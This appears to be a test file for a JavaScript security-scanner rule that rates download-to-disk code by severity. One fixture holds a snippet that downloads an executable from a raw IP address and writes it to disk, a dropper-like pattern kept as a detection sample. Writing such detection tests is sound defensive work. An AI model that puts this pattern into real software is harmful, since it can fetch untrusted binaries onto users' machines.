import { describe, expect, it } from 'vitest';
import { ruleFindings } from '../helpers.js';

describe('JS-013 download-to-disk-flow', () => {
  it('rates a raw-IP download piped to a file high', async () => {
    const code = `const http = require('http'), fs = require('fs');
      http.get('http://192.0.2.1/a.exe', r => r.pipe(fs.createWriteStream('./a.exe')));`;
    const f = await ruleFindings('JS-013', code);
    expect(f[0]?.severity).toBe('high');
  });
  it('rates an HTTPS download to a package folder low', async () => {
    const code = `const https = require('https'), fs = require('fs');
      https.get('https://releases.example.invalid/v1/tool.tgz', r => r.pipe(fs.createWriteStream(dest)));`;
    expect((await ruleFindings('JS-013', code))[0]?.severity).toBe('low');
  });
  it('ignores writing local data', async () => {
    expect(
      await ruleFindings('JS-013', "require('fs').writeFileSync('out.json', JSON.stringify({ a: 1 }))"),
    ).toHaveLength(0);
  });
});
